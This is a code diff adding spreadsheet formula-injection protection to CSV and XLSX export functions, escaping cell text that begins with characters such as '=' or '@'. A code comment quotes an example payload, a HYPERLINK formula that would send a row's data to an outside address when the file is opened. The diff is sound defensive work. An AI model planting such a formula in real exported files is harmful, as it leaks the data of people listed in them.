@@ -129,6 +129,30 @@ def display(column: Column, value: Any) -> str:
     return str(value)
 
 
+# A text cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets ("formula injection":
+# a household head named =HYPERLINK("http://…?"&A1) would send the row away when the file is opened).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(text: str) -> str:
+    """CSV: text that a spreadsheet would run as a formula gets a leading apostrophe (shown as text)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def set_text_cell(cell) -> None:
+    """XLSX: keep a string that looks like a formula a plain string, marked quote-prefixed as Excel does."""
+    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+
+
+def append_row(sheet, values) -> None:
+    """sheet.append for rows holding user text (templates filled with names): no cell becomes a formula."""
+    sheet.append(values)
+    for cell in sheet[sheet.max_row]:
+        set_text_cell(cell)
+
+
 def _xlsx_value(column: Column, value: Any) -> Any:
     if value is None or value == "":
         return None
@@ -161,11 +185,13 @@ def to_xlsx(table: Table, sheet_title: str = "") -> bytes:
     row = 1
     if table.title:
         ws.cell(row=row, column=1, value=table.title).font = Font(name=font, bold=True, size=14)
+        set_text_cell(ws.cell(row=row, column=1))
         ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(n, 1))
         ws.cell(row=row, column=1).alignment = Alignment(horizontal="center", wrap_text=True)
         row += 1
     for line in table.subtitle:
         ws.cell(row=row, column=1, value=line).font = Font(name=font, italic=True, size=12)
+        set_text_cell(ws.cell(row=row, column=1))
         ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(n, 1))
         ws.cell(row=row, column=1).alignment = Alignment(horizontal="center")
         row += 1
@@ -185,6 +211,7 @@ def to_xlsx(table: Table, sheet_title: str = "") -> bytes:
         row += 1
         for i, (column, value) in enumerate(zip(table.columns, values), start=1):
             cell = ws.cell(row=row, column=i, value=_xlsx_value(column, value))
+            set_text_cell(cell)
             cell.font = Font(name=font, size=12, bold=bold)
             cell.border = border
             if column.kind in XLSX_FORMATS:
@@ -203,6 +230,7 @@ def to_xlsx(table: Table, sheet_title: str = "") -> bytes:
         write(totals, bold=True)
     if table.note:
         ws.cell(row=row + 2, column=1, value=table.note).font = Font(name=font, italic=True, size=11)
+        set_text_cell(ws.cell(row=row + 2, column=1))
 
     for i, column in enumerate(table.columns, start=1):
         ws.column_dimensions[get_column_letter(i)].width = column.width or _guess_width(table, i - 1)
@@ -259,7 +287,7 @@ def _csv_value(column: Column, value: Any) -> str:
         from core.formatting import format_date
 
         return format_date(value)
-    return str(value)
+    return neutralise_formula(str(value))
 
 
 def to_nd30(table: Table, widths: Sequence[float] | None = None):
